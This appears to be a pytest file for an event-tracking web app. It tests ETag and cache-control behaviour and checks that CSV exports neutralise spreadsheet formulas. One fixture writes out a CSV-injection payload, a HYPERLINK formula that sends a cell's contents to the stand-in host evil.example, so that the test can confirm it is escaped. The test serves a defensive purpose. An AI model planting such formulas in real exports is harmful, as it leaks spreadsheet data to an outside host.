"""The ETag follows edits: a change to the data makes the old tag stale."""

from __future__ import annotations

from sqlalchemy import select

from tracker.db.models import Event
from tracker.extensions import db


def test_an_edit_or_delete_changes_the_etag(loaded_app):
    client = loaded_app.test_client()
    etag = client.get("/events.json").headers["ETag"]
    # Unchanged data: the ETag matches and the answer is a 304 (so the 200s below mean
    # something).
    assert client.get("/events.json", headers={"If-None-Match": etag}).status_code == 304
    with loaded_app.app_context():
        event = db.session.scalars(select(Event).order_by(Event.slug)).first()
        event.title = event.title + " (edited)"
        db.session.commit()
    response = client.get("/events.json", headers={"If-None-Match": etag})
    assert response.status_code == 200
    etag2 = response.headers["ETag"]
    assert etag2 != etag
    assert client.get("/events.json", headers={"If-None-Match": etag2}).status_code == 304
    with loaded_app.app_context():
        event = db.session.scalars(select(Event).order_by(Event.slug)).first()
        for citation in list(event.citations):
            db.session.delete(citation)
        db.session.delete(event)
        db.session.commit()
    assert client.get("/events.json", headers={"If-None-Match": etag2}).status_code == 200


def test_formula_in_a_source_title_is_neutralised_in_every_csv(loaded_app):
    from tracker.db.models import Citation, Source

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with loaded_app.app_context():
        other = db.session.scalars(
            select(Event).where(Event.slug == "amazon-announces-rekognition-police-moratorium")
        ).one()
        source = Source(slug="evil-source", kind="news_article", title=evil, url="https://evil.example/")
        event = Event(
            slug="quarantined-event",
            date=other.date,
            date_precision="day",
            certainty="verified",
            kind="report",
            actor=other.actor,
            title="An event documented only by the evil source",
        )
        event.citations.append(Citation(source=source, role="mention"))
        db.session.add_all([source, event])
        db.session.commit()
    client = loaded_app.test_client()
    for url in (
        "/sources.csv",
        "/sources.csv?q=HYPERLINK",
        "/events.csv?q=documented+evil",
        "/events.csv?bom=1",
        "/sources.csv?kind=news_article",
    ):
        text = client.get(url).get_data(as_text=True)
        assert "HYPERLINK" in text, url
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith("=HYPERLINK"), (url, line)
        assert "'=HYPERLINK" in text, url


def test_logged_in_pages_are_never_stored_by_shared_caches(app):
    from .editor_helpers import editor_client, make_world

    with app.app_context():
        world = make_world(db.session)
    client = editor_client(app)
    for path in ("/events", f"/events/{world['event']}", "/events.json", "/changes"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["Cache-Control"] == "private, no-store", path
        assert "ETag" not in response.headers, path
    anonymous = app.test_client().get(f"/events/{world['event']}")
    assert anonymous.headers["Cache-Control"] == "public, no-cache"


def test_pages_outside_the_dataset_are_not_tagged(app):
    """The corrections queue changes without the dataset changing: never a stale 304."""
    client = app.test_client()
    for path in ("/corrections", "/changes", "/login"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert "ETag" not in response.headers, path
        assert response.headers["Cache-Control"] == "private, no-store", path
    assert "ETag" in client.get("/events").headers


def test_an_upgrade_changes_the_etag_and_the_shared_cache_key(app, tmp_path, monkeypatch):
    """The tags and the shared response cache key on the code too: after an upgrade the
    old version's pages must not be served, nor answered with a 304."""
    from tracker.web import responsecache

    (tmp_path / "page.html").write_text("one")
    monkeypatch.setattr(responsecache, "PACKAGE_DIR", tmp_path)
    responsecache.code_stamp.cache_clear()
    before = responsecache.code_stamp()
    (tmp_path / "page.html").write_text("two")
    responsecache.code_stamp.cache_clear()
    assert responsecache.code_stamp() != before
    monkeypatch.undo()
    responsecache.code_stamp.cache_clear()

    client = app.test_client()
    old = client.get("/events.json")
    assert old.status_code == 200 and old.headers["X-Response-Cache"] == "miss"
    assert client.get("/events.json", headers={"If-None-Match": old.headers["ETag"]}).status_code == 304
    monkeypatch.setattr(responsecache, "code_stamp", lambda: "upgraded")
    new = client.get("/events.json", headers={"If-None-Match": old.headers["ETag"]})
    assert new.status_code == 200 and new.headers["ETag"] != old.headers["ETag"]
    assert new.headers["X-Response-Cache"] == "miss"  # not the old version's cached answer
